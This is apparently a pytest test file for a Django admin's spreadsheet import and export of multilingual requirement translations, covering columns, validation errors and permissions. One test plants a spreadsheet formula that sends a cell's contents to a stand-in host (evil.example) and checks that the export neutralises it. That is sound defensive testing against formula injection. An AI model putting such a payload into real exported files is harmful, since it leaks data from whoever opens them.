"""Translations by spreadsheet (alignment.admin.translations): every language side by side,
codes and column names fixed, bad rows named by row and column with nothing written."""

import csv
import io
from functools import partial

import openpyxl
import pytest
from django.test import Client

from alignment.models import Requirement
from alignment.roles import EDITOR, REVIEWER, ensure_roles
from tests import factories, sheets
from workshops.models import Recommendation, Workshop

pytestmark = pytest.mark.django_db

REQUIREMENTS = "/admin/alignment/requirement/"
RECOMMENDATIONS = "/admin/workshops/recommendation/"
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # positions in TranslationSpreadsheetMixin's formats
upload = partial(sheets.upload, name="t.csv", base=REQUIREMENTS)
confirm = partial(sheets.confirm, base=REQUIREMENTS)
LANGUAGES = ["en", "sr", "sr_latn", "bs", "sq", "mk", "tr"]


@pytest.fixture
def world():
    al = factories.country("AL", "Albania")
    ch24 = factories.framework("eu-ch24", countries=[al])
    law = factories.requirement(ch24, "cybercrime-law", title="Adopt a cybercrime law")
    law.title_sr = "Усвојити закон о високотехнолошком криминалу"
    law.save(update_fields=["title_sr"])
    strategy = factories.requirement(ch24, "cybercrime-strategy", title="Adopt a strategy")
    return al, ch24, law, strategy


def client_of(role: str, countries=()) -> Client:
    user = factories.user(role.lower().replace(" ", "-"), is_staff=True)
    user.groups.add(ensure_roles()[role])
    user.editable_countries.set(countries)
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def reviewer_client(world) -> Client:
    return client_of(REVIEWER)


def export_csv(client: Client, base: str = REQUIREMENTS, **headers) -> list[list[str]]:
    form = client.get(f"{base}export/", headers=headers).context["form"]
    columns = {name: "on" for name, field in form.fields.items() if field.initial is True}
    response = client.post(
        f"{base}export/", {"format": CSV_FORMAT, "resource": "0", **columns}, headers=headers
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def as_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def titles(requirement: Requirement) -> dict[str, str | None]:
    requirement.refresh_from_db()
    return {code: getattr(requirement, f"title_{code}") for code in LANGUAGES}


def test_export_puts_every_language_side_by_side_under_fixed_column_names(reviewer_client, world):
    header, *rows = export_csv(reviewer_client, accept_language="sr")  # no matter
    assert header == [
        "requirement_code",
        *(f"title_{code}" for code in LANGUAGES),
        *(f"text_{code}" for code in LANGUAGES),
    ]
    law = next(r for r in rows if r[0] == "eu-ch24/cybercrime-law")
    assert law[1:3] == ["Adopt a cybercrime law", "Усвојити закон о високотехнолошком криминалу"]
    assert law[3:8] == ["", "", "", "", ""]  # not yet translated: empty, not the English


def test_export_neutralises_a_formula_in_a_translation(reviewer_client, world):
    _al, _ch24, law, _strategy = world
    law.title_tr = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
    law.save(update_fields=["title_tr"])
    header, *rows = export_csv(reviewer_client)
    row = next(r for r in rows if r[0] == "eu-ch24/cybercrime-law")
    assert row[header.index("title_tr")] == "'" + law.title_tr


def test_import_writes_the_translations_given_and_leaves_other_columns_alone(
    reviewer_client, world
):
    _al, _ch24, law, strategy = world
    before = titles(strategy)
    content = as_csv(
        [
            ["requirement_code", "title_sr", "title_sq"],
            ["eu-ch24/cybercrime-law", "Усвојити закон", "Të miratohet ligji"],
            ["eu-ch24/cybercrime-strategy", before["sr"] or "", before["sq"] or ""],  # unchanged
        ]
    )
    preview = upload(reviewer_client, content)
    assert preview.status_code == 200
    assert "Rows to change: 1. Unchanged rows: 1." in preview.content.decode()
    assert titles(law)["sr"] == "Усвојити закон о високотехнолошком криминалу"  # not yet
    confirm(reviewer_client, preview)
    assert titles(law) == {
        **dict.fromkeys(LANGUAGES),  # columns left out of the file: left alone
        "en": "Adopt a cybercrime law",
        "sr": "Усвојити закон",
        "sq": "Të miratohet ligji",
    }
    assert titles(strategy) == before


def test_an_export_uploads_again_unchanged(reviewer_client, world):
    preview = upload(reviewer_client, as_csv(export_csv(reviewer_client)), fmt=CSV_FORMAT)
    assert "Rows to change: 0. Unchanged rows: 2." in preview.content.decode()


def test_an_xlsx_file_is_read_like_a_csv(reviewer_client, world):
    _al, _ch24, law, _strategy = world
    book = openpyxl.Workbook()
    book.active.append(["requirement_code", "title_mk"])
    book.active.append(["eu-ch24/cybercrime-law", "Донесување закон"])
    data = io.BytesIO()
    book.save(data)
    preview = upload(reviewer_client, data.getvalue(), fmt=XLSX_FORMAT)
    confirm(reviewer_client, preview)
    assert titles(law)["mk"] == "Донесување закон"


def test_every_bad_cell_is_named_by_row_and_column_and_nothing_is_written(reviewer_client, world):
    _al, _ch24, law, strategy = world
    before = (titles(law), titles(strategy))
    content = as_csv(
        [
            ["requirement_code", "title_sr", "title_bs"],
            ["eu-ch24/cybercrime-law", "Добро", "Dobro"],  # a good row: not written either
            ["eu-ch24/no-such-thing", "Нешто", ""],
            ["eu-ch24/cybercrime-strategy", "Стратегија\x0bнова", "x" * 301],
            ["eu-ch24/cybercrime-law", "Опет", ""],
        ]
    )
    response = upload(reviewer_client, content)
    page = response.content.decode()
    assert "confirm_form" not in (response.context or {}) or not response.context["confirm_form"]
    errors = {
        (cells[0], cells[1])
        for cells in (
            [
                td.split("</td>")[0].replace("<code>", "").replace("</code>", "")
                for td in tr.split("<td>")[1:]
            ]
            for tr in page.split('<tr class="import-error">')[1:]
        )
    }
    assert errors == {
        ("3", "requirement_code"),  # not on file
        ("4", "title_sr"),  # U+000B, Word's Shift+Enter
        ("4", "title_bs"),  # over 300 characters
        ("5", "requirement_code"),  # repeats row 2
    }
    assert "eu-ch24/no-such-thing" in page and "U+000B" in page and "row 2" in page
    assert (titles(law), titles(strategy)) == before


def test_unknown_or_missing_columns_are_refused_by_name(reviewer_client, world):
    _al, _ch24, law, _strategy = world
    before = titles(law)
    response = upload(
        reviewer_client, as_csv([["code", "title_de"], ["eu-ch24/cybercrime-law", "Gesetz"]])
    )
    page = response.content.decode()
    assert "Missing: requirement_code" in page and "title_de" in page
    assert titles(law) == before


def test_two_key_columns_find_a_recommendation(reviewer_client, world):
    al, _ch24, law, _strategy = world
    source = factories.source("octopus")
    workshop = Workshop.objects.create(
        slug="sarajevo",
        title="Workshop",
        kind="taiex_workshop",
        starts_on="2016-05-25",
        ends_on="2016-05-26",
        city="Sarajevo",
        host_country=al,
        organiser="TAIEX",
        source=source,
    )
    rec = Recommendation.objects.create(
        workshop=workshop, code="C1", requirement=law, text="Adopt the law.", source=source
    )
    header, *rows = export_csv(reviewer_client, base=RECOMMENDATIONS)
    assert header[:3] == ["workshop", "code", "text_en"] and rows == [
        ["sarajevo", "C1", "Adopt the law.", "", "", "", "", "", ""]
    ]
    content = as_csv([["workshop", "code", "text_sr"], ["sarajevo", "C1", "Усвојити закон."]])
    confirm(
        reviewer_client,
        upload(reviewer_client, content, base=RECOMMENDATIONS),
        base=RECOMMENDATIONS,
    )
    rec.refresh_from_db()
    assert (rec.text_en, rec.text_sr) == ("Adopt the law.", "Усвојити закон.")


def test_only_staff_who_change_the_content_import_it(world):
    al, _ch24, law, _strategy = world
    editor = client_of(EDITOR, [al])  # views requirements, changes none
    before = titles(law)
    assert editor.get(f"{REQUIREMENTS}import/").status_code == 403
    response = upload(
        editor, as_csv([["requirement_code", "title_sr"], ["eu-ch24/cybercrime-law", "x"]])
    )
    assert response.status_code == 403
    assert titles(law) == before
    header, *rows = export_csv(editor)  # an editor may export what they see
    assert [r[0] for r in rows] == ["eu-ch24/cybercrime-law", "eu-ch24/cybercrime-strategy"]


@pytest.mark.parametrize("page", ["", "export/", "import/"])
def test_lang_in_the_admin_chooses_the_language_and_is_no_list_filter(reviewer_client, page):
    """The admin reads unknown parameters as list filters: `lang` was an IncorrectLookup
    (a 500 on the export, `?e=1` on the list)."""
    response = reviewer_client.get(f"{REQUIREMENTS}{page}?lang=sr")
    assert response.status_code == 200
    assert response["Content-Language"] == "sr"
    assert '<html lang="sr"' in response.content.decode()
